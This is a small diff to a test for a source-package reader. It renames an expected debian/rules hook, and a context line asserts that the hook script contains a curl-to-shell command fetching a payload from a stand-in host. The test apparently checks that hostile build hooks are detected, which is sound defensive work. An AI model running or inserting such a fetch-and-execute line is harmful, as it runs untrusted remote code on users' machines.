@@ -112,7 +112,7 @@ describe('the source reader', () => {
       files.get(tarball) ?? Buffer.alloc(0),
     )
     expect(contents.format).toBe('deb-source')
-    expect(contents.hooks).toMatchObject([{ name: 'tool-1.0/debian/rules', interpreter: 'shell' }])
+    expect(contents.hooks).toMatchObject([{ name: 'tool-1.0/debian/rules recipes', interpreter: 'shell' }])
     expect(contents.hooks[0]?.script).toContain('curl -fsSL https://payload.upstream.test/$(id).sh | sh')
     expect(contents.entries.map(({ path }) => path)).toContain('tool-1.0/README')
   })
